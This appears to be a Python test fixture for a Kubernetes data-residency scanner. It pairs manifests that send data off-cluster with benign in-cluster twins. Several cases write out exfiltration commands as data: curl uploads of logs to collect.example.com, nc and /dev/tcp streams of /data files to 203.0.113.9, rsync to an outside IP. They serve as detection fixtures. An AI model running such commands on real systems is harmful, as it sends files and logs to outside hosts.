"""What programs are told of addresses in arguments, scripts and variables; what nodes ask; what Kustomize and charts
put together. Each with its benign twin.
"""

from __future__ import annotations

from typing import Any

from tests.kube_cases import both, engine, field, ours, plain, secret, with_env
from tests.kube_text_cases import coded, config, otel
from tests.residency_cases import CN_IMAGE, Case, labelled, pod, text, thing

PUSH, IN = "https://metrics.example.net/write", "http://vm.monitoring:8480/insert"
BESIDE, BACKUP = CN_IMAGE.replace("app:1", "vllm-exporter:1"), "s3://backup/a"


def told(*words: str, **more: Any) -> dict[str, Any]:
    return pod("cn", args=list(words), **more)


def shell(script: str) -> dict[str, Any]:
    return pod("cn", command=["sh", "-c"], args=[script])


def probed(way: str, kind: str, host: str) -> dict[str, Any]:
    return pod("cn", **{way: {kind: {"port": 80, "host": host, **({"path": "/x"} if kind == "httpGet" else {})}}})


def stopped(host: str) -> dict[str, Any]:
    return pod("cn", lifecycle={"preStop": {"httpGet": {"port": 80, "host": host}}})


def kustomized(**body: Any) -> dict[str, Any]:
    return thing("kustomize.config.k8s.io/v1beta1", "Kustomization", **body)


def flux(kind: str, group: str, **body: Any) -> dict[str, Any]:
    return thing(group, kind, spec=body)


def argo(**source: Any) -> dict[str, Any]:
    destination = {"server": "https://kubernetes.default.svc"}
    return thing("argoproj.io/v1alpha1", "Application", spec={"source": source, "destination": destination})


TOLD: list[Case] = [
    *both("RES-034", told(f"-remoteWrite.url={PUSH}"), told(f"-remoteWrite.url={IN}"),
          told("--web.external-url=https://prom.example.com", "--web.listen-address=0.0.0.0:9090"), threat="T05"),
    *both("RES-034", shell("tail -F /var/log/x | curl -T - https://collect.example.com"),
          shell("set -e\n# see https://docs.example.com\ntail -F /var/log/x | curl -sT - http://collect.obs.svc/x"),
          shell("until curl -sf http://localhost:8080/health; do sleep 1; done"),
          shell('curl "http://${HOST}:8080" http://$(hostname -i):1/'), threat="T07"),
    *both("RES-034", told("mirror", "local/b", "https://s3.us-east-1.amazonaws.com/b"),
          told("mirror", "local/b", "https://oss-cn-shanghai-internal.aliyuncs.com/b"), threat="T11"),
    *both("RES-034", told("s3", "sync", "/data", BACKUP),
          told("s3", "sync", "/data", BACKUP, "--endpoint-url", "http://minio.data.svc:9000"),
          told("s3", "sync", "/data", BACKUP, env=[plain("AWS_ENDPOINT_URL", "http://minio.data.svc")]), threat="T11"),
    *both("RES-034", told("cp", "/data", "gs://backup/a"), told("cp", "/data", "file:///backup/a"), threat="T11"),
    *both("RES-034", with_env(plain("DATABASE_URL", "postgres://u:p@db.example.com:5432/a")),
          with_env(plain("DATABASE_URL", "postgres://u:p@db.shop-data:5432/a"), plain("SITE_URL", "https://a.example.cn"),
                   plain("LISTENERS", "PLAINTEXT://:9092,TLS://0.0.0.0:9093")), threat="T11"),
    *ours("RES-034", told("--endpoint", "collector.example.com"), told("--endpoint", "collector.obs.svc"),
          told("--hostname", "chat.example.com", "--host", "0.0.0.0"),
          told("--config.file=/etc/a.b/c.yaml"), threat="T08"),
    *ours("RES-034", told("--brokers=kafka.a.svc:9092,kafka.example.com:9092"),
          told("--brokers=kafka-0.kafka.a.svc:9092,kafka-1.kafka.a.svc:9092"), threat="T08"),
    *ours("RES-034", told("collector.example.com:4317"),
          told("collector.observability:4317", "main.py:80"), threat="T08"),
    *ours("RES-034", shell("nc 203.0.113.9 9000 < /data/x"), shell("nc 10.64.0.9 9000 < /data/x"), threat="T08"),
    *ours("RES-034", shell("rsync -a /data backup@203.0.113.9:/x"),
          shell("rsync -a /data /backup/a.com"), threat="T11"),
    *ours("RES-034", shell("curl -T x.log collect.example.com/x"),
          shell("curl -H 'Host: chat.example.com' -o page.com http://gw.a.svc"), threat="T07"),
    *ours("RES-034", shell("cat x > /dev/tcp/203.0.113.9/99"), shell("cat x > /dev/tcp/10.64.0.9/99"), threat="T07"),
    *ours("RES-034", with_env(plain("X", "collector.example.com"), plain("SINK", "https://$(X)/in")),
          with_env(plain("X", "collector.obs.svc"), plain("SINK", "https://$(X)/in")),
          with_env(field("X", "status.hostIP"), plain("SINK", "https://$(X)/in")), threat="T08"),
    *ours("RES-034", with_env(secret("X"), plain("SINK", "https://$(X)/in")),
          with_env(secret("X"), plain("SINK", "https://u:$(X)@collector.obs.svc:$(P)/in")), threat="T08"),
    *ours("RES-034", with_env(plain("UPSTREAM_HOST", "api.example.com")), with_env(plain("UPSTREAM_HOST", "api")),
          with_env(plain("JAVA_MAIN", "com.example.app"), plain("VERSION", "1.2.3.4")), threat="T08"),
    *ours("RES-034", text("run.sh", "# https://docs.example.com\ncurl https://collect.example.com\n"),
          text("run.sh", "# https://docs.example.com\ncurl http://collect.obs.svc\n"), threat="T07"),
    *ours("RES-034", coded("redis://:pw@cache.example.com:6379", "k"), coded("redis://:pw@cache.a.svc:6379", "k"),
          config("https://argocd.example.com", "root_url"), config("see https://a.example.com", "note"), threat="T08"),
]  # fmt: skip

ASKED: list[Case] = [
    *both("RES-028", probed("livenessProbe", "httpGet", "collect.example.com"),
          probed("livenessProbe", "httpGet", "127.0.0.1"),
          probed("livenessProbe", "tcpSocket", "a.b.svc"), threat="T17"),
    *both("RES-028", probed("readinessProbe", "tcpSocket", "203.0.113.9"),
          probed("readinessProbe", "tcpSocket", "10.64.0.9"), threat="T17"),
    *both("RES-028", stopped("collect.example.com"), stopped("localhost"), threat="T17"),
]  # fmt: skip

ENGINES: list[Case] = [
    *both("RES-016", engine(plain("VLLM_DEBUG_LOG_API_SERVER_RESPONSE", "1")),
          engine(plain("VLLM_DEBUG_LOG_API_SERVER_RESPONSE", "0")), threat="T07"),
    *both("RES-020", engine(args=["--model", "model/q"]), engine(args=["--model", "models/q"]), threat="T11"),
    # An image beside the engines is none, unless it is told to be one.
    *both("RES-017", pod("cn", image=BESIDE, args=["vllm", "serve", "/models/q"]),
          pod("cn", image=BESIDE, args=["serve"])),
    *both("RES-022", with_env(secret("REDIS_HOST")), with_env(secret("REDIS_URL")), threat="T12"),
    *ours("RES-027", labelled("cn", build="jane@example.com"), labelled("cn", build="13812345678"), threat="T16"),
    *both("RES-027", labelled("cn", customer="13812345678"),
          labelled("cn", **{"app.example.com/build-id": "13812345678"}), threat="T16"),
    *ours("RES-017", otel(otlp={"endpoint": "${env:SINK:-api.example.com:4317}"}),
          otel(otlp={"endpoint": "${env:SINK}"}), otel(otlp={"endpoint": "https://${SINK}:4317"})),
    *ours("RES-017", otel(otlp={"endpoint": "https://${env:TENANT}.example.com"}), otel(otlp={"endpoint": "${SINK}"})),
]  # fmt: skip

FLUX, HELM = "kustomize.toolkit.fluxcd.io/v1", "helm.toolkit.fluxcd.io/v2"
PATCH = "- op: add\n  path: /spec/template/spec/containers/0/args/-\n  value: --sink={}\n"
OWN = "twain-cn-registry-vpc.cn-shanghai.cr.aliyuncs.com/twain/app"
PUT: list[Case] = [
    *ours("RES-023", kustomized(images=[{"name": "app", "newName": "docker.io/library/app"}]),
          kustomized(images=[{"name": "app", "newName": OWN, "newTag": "1"}, {"name": "app", "newTag": "2"}]),
          threat="T13"),
    *ours("RES-023", kustomized(resources=["github.com/a/b//deploy?ref=v1"]),
          kustomized(resources=["../base", "app.example.yaml", "./a.b/c"]), threat="T13"),
    *ours("RES-023", kustomized(helmCharts=[{"name": "a", "repo": "https://charts.example.com"}]),
          kustomized(helmCharts=[{"name": "a", "repo": "oci://twain.cn-shanghai.cr.aliyuncs.com/charts"}]),
          threat="T13"),
    *ours("RES-017", kustomized(configMapGenerator=[{"name": "a", "literals": ["SENTRY_DSN=https://a@o1.example.com/1"]}]),
          kustomized(configMapGenerator=[{"name": "a", "literals": ["SENTRY_DSN=http://a@sentry.a.svc/1", "A=b"]}])),
    *ours("RES-034", kustomized(patches=[{"patch": PATCH.format("https://collect.example.com")}]),
          kustomized(patches=[{"patch": PATCH.format("http://collect.obs.svc")}, {"path": "p.yaml"}]), threat="T08"),
    *ours("RES-023", flux("Kustomization", FLUX, images=[{"name": "a", "newName": "ghcr.io/a"}]),
          flux("Kustomization", FLUX, images=[{"name": "a", "newName": OWN}]), threat="T13"),
    *ours("RES-014", flux("HelmRelease", HELM, values={"prometheusSpec": {"remoteWrite": [{"url": PUSH}]}}),
          flux("HelmRelease", HELM, values={"prometheusSpec": {"remoteWrite": [{"url": IN}]}}), threat="T05"),
    *ours("RES-034", flux("HelmRelease", HELM, values={"extraEnv": [{"name": "SINK", "value": PUSH}]}),
          flux("HelmRelease", HELM, values={"extraEnv": [{"name": "SINK", "value": IN}],
                                            "ingress": {"host": "a.example.com"}, "home": "https://a.example.com"})),
    *ours("RES-034", flux("HelmRelease", HELM, values={"extraArgs": ["--sink", PUSH]}),
          flux("HelmRelease", HELM, values={"extraArgs": ["--sink", IN]})),
    *ours("RES-014", argo(helm={"values": f"remoteWrite:\n- url: {PUSH}\n"}), argo(helm={"values": "replicas: 1\n"}),
          threat="T05"),
    *ours("RES-023", argo(kustomize={"images": ["app=docker.io/library/app:1"]}),
          argo(kustomize={"images": [f"app={OWN}:1"]}), threat="T13"),
    *ours("RES-034", argo(helm={"parameters": [{"name": "sink.url", "value": PUSH}]}),
          argo(helm={"parameters": [{"name": "sink.url", "value": IN}, {"name": "root-url", "value": PUSH}]})),
]  # fmt: skip

CASES: list[Case] = [*TOLD, *ASKED, *ENGINES, *PUT]
